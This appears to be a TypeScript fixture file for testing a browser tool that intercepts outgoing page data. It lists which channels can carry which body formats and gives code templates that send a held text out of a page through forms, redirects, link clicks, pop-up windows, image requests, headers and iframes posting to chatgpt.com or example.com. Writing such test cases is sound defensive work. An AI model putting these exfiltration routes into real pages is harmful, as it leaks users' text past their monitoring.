/** Forms that a way out cannot take, or that it turns into something else before our script sees it. */
export const WIRES_WITHOUT: Readonly<Record<string, readonly string[]>> = {
  fetch: [],
  'fetch request': [],
  'fetch stream': [],
  xhr: [],
  beacon: [],
  socket: ['form object', 'multipart', 'multipart file'],
  worker: ['blob', 'file', 'multipart', 'multipart file', 'form object', 'object', 'gzip'],
  'shared worker': ['blob', 'file', 'multipart', 'multipart file', 'form object', 'object', 'gzip'],
  channel: ['blob', 'file', 'multipart', 'multipart file', 'form object', 'object', 'gzip'],
  port: ['blob', 'file', 'multipart', 'multipart file', 'form object', 'object', 'gzip'],
  'service worker': ['blob', 'file', 'multipart', 'multipart file', 'form object', 'object', 'gzip'],
  'data channel': ['blob', 'file', 'multipart', 'multipart file', 'form object', 'object', 'gzip'],
};

/** A beacon that must be read first is promised to the page, and then does not leave. */
export const PROMISED: readonly string[] = ['multipart file', 'blob', 'file', 'gzip'];

/** What a page's script can do to send a text, besides the ways that take a body of any form. */
export const OTHER_WAYS: Readonly<Record<string, (held: string) => string>> = {
  'a form that submits itself': (held) =>
    `const f = document.createElement('form'); f.method = 'post'; f.action = '/send'; f.target = 'sink';
     f.innerHTML = '<input name=action><input name=message>'; f.elements.message.value = '${held}';
     document.body.append(f); HTMLFormElement.prototype.submit.call(f);`,
  'a form that is submitted by script': (held) =>
    `const f = document.createElement('form'); f.action = '/send'; f.target = 'sink';
     f.innerHTML = '<input name=message>'; f.elements.message.value = '${held}'; document.body.append(f); f.requestSubmit();`,
  'an address that is gone to': (held) => `location.href = '/send?q=' + encodeURIComponent('${held}');`,
  'an address that replaces this one': (held) => `location.replace('https://example.com/send?q=${held}');`,
  'a link that script presses': (held) =>
    `const a = document.createElement('a'); a.href = '/send?q=${held}'; document.body.append(a); a.click();`,
  'a window that is opened': (held) => `const w = open('/send?q=${held}'); setTimeout(() => w?.close(), 600);`,
  'a picture': (held) => `new Image().src = 'https://example.com/send?q=' + btoa('${held}');`,
  'an event source': (held) => `new EventSource('/send?q=${held}').close;`,
  'an address in fetch': (held) => `await fetch('/send?q=' + encodeURIComponent(' ${held}'));`,
  'a header of fetch': (held) => `await fetch('/send', { headers: { 'x-text': '${held}' } });`,
  'a header of a request': (held) => `await fetch(new Request('/send', { headers: { 'x-text': '${held}' } }));`,
  'an address in a request that blocks': (held) =>
    `const x = new XMLHttpRequest(); x.open('POST', '/send', false); x.send('${held}');`,
  'a fresh frame': (held) =>
    `const f = document.createElement('iframe'); document.body.append(f);
     await f.contentWindow.fetch('https://chatgpt.com/send', { method: 'POST', body: '${held}' });`,
  'a frame on its way': (held) =>
    `const f = document.createElement('iframe'); f.src = '/never'; document.body.append(f);
     await f.contentWindow.fetch('https://chatgpt.com/send', { method: 'POST', body: '${held}'  });`,
  'a frame that was written': (held) =>
    `const f = document.createElement('iframe'); f.srcdoc = '<script>go = (t) => fetch("https://chatgpt.com/send", { method: "POST", body: t })<\\/script>';
     document.body.append(f); await new Promise((r) => f.onload = r); await window[window.length - 1].go('${held}');`,
  'a document that was opened anew': (held) =>
    `document.open(); document.write('<p>new'); document.close(); await fetch('/send', { method: 'POST', body: '${held}' });`,
};
